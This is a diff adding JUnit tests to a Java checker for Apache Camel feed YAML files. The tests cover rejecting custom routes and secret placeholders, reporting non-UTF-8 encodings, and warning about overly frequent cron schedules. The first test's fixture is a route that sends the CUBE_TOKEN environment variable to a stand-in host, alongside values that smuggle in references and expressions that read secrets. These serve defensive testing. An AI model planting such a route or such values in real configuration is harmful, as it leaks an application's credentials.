@@ -121,6 +121,73 @@ class FeedFileCheckTest {
                 + " cube-kafka-: those name the application's own routes", problems.get(4));
     }
 
+    // Feed files are not code: a plain Camel route (here one that would post the token elsewhere) is refused, naming
+    // file and entry, unless cube.allow-custom-routes is true; so are values Camel would read as references,
+    // expressions or placeholders of secrets.
+    @Test
+    void feedFilesHoldFeedsOnly() throws IOException {
+        Path route = write("exfiltrate.yaml", """
+                - route:
+                    from:
+                      uri: "timer:t?repeatCount=1"
+                      steps:
+                        - setBody:
+                            simple: "${env:CUBE_TOKEN}"
+                        - to: "http://elsewhere.example/collect"
+                """);
+        Path values = write("values.yaml", FeedYaml.feed("cube-snapshot-feed", "sneaky", "campaigns", "filters",
+                "token={{env:CUBE_TOKEN}}", "keyField", "#class:java.io.File", "idFields", "${env:CUBE_TOKEN}", "customerPath",
+                "assignments/{assignment_id}/customers/{customer_id}?t={{cube.token}}"));
+
+        List<String> problems = check.check(List.of(route, values));
+
+        assertEquals(route + ": holds a 'route' entry: feed files declare only templatedRoute entries of [cube-window-feed,"
+                + " cube-snapshot-feed]; other Camel routes run with the application's credentials and are refused unless"
+                + " CUBE_ALLOW_CUSTOM_ROUTES=true", problems.get(0));
+        assertTrue(problems.contains(values + ": feed sneaky: parameter filters uses the placeholder {{env:CUBE_TOKEN}}: feed values"
+                + " may name only cube.* settings that hold no secret"), problems.toString());
+        assertTrue(problems.contains(values + ": feed sneaky: parameter keyField '#class:java.io.File' would be read by Camel as a"
+                + " reference or an expression, not as a value"), problems.toString());
+        assertTrue(problems.stream().anyMatch(p -> p.startsWith(values + ": feed sneaky: parameter idFields '${env:CUBE_TOKEN}'")), problems.toString());
+        assertTrue(problems.stream().anyMatch(p -> p.contains("parameter customerPath uses the placeholder {{cube.token}}")), problems.toString());
+        org.apache.camel.spi.PropertiesComponent allowing = shippedSettings();
+        java.util.Properties allow = new java.util.Properties();
+        allow.put("cube.allow-custom-routes", "true");
+        allowing.setOverrideProperties(allow);
+        assertEquals(List.of(), FeedFileCheck.of(allowing).check(List.of(route)), "allowed by the setting");
+    }
+
+    // A file saved as Latin-1 or UTF-16 is named with the byte and line at fault and what to do, not "Input length = 1".
+    @Test
+    void aFileThatIsNotUtf8IsNamed() throws IOException {
+        String yaml = FeedYaml.feed("cube-snapshot-feed", "kunder", "campaigns") + "# Kundeliste for Bærum\n";
+        Path latin1 = Files.write(folder.resolve("latin1.yaml"), yaml.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
+        Path utf16 = Files.write(folder.resolve("utf16.yaml"), yaml.getBytes(java.nio.charset.StandardCharsets.UTF_16));
+
+        List<String> problems = check.check(List.of(latin1, utf16));
+
+        assertEquals(List.of(latin1 + ": cannot be read: it is not UTF-8: byte 0xE6 on line 9 (saved as Latin-1 or Windows-1252?);"
+                        + " save it as UTF-8",
+                utf16 + ": cannot be read: it is UTF-16 (it starts with a UTF-16 byte order mark); save it as UTF-8"), problems);
+    }
+
+    // A valid feed that fires more than once a minute, or whose start date makes a first run of years, is warned about.
+    @Test
+    void surprisingFeedsAreWarnedAbout() throws IOException {
+        String longAgo = java.time.LocalDate.now().minusDays(400).format(java.time.format.DateTimeFormatter.BASIC_ISO_DATE);
+        Path file = write("eager.yaml", FeedYaml.feed("cube-window-feed", "eager", "campaigns/926/responses/", "cron", "0/10 * * * * ?",
+                "startDate", longAgo));
+
+        FeedFileCheck.Findings findings = check.examine(List.of(file));
+
+        assertEquals(List.of(), findings.problems());
+        assertEquals(2, findings.warnings().size(), findings.warnings().toString());
+        assertEquals(file + ": feed eager: cron '0/10 * * * * ?' fires every 10 s: more than once a minute asks Cube again before"
+                + " it has anything new", findings.warnings().get(0));
+        assertTrue(findings.warnings().get(1).startsWith(file + ": feed eager: startDate " + longAgo + " makes its first run fetch 40"),
+                findings.warnings().get(1));
+    }
+
     private Path write(String name, String yaml) throws IOException {
         return Files.writeString(folder.resolve(name), yaml);
     }
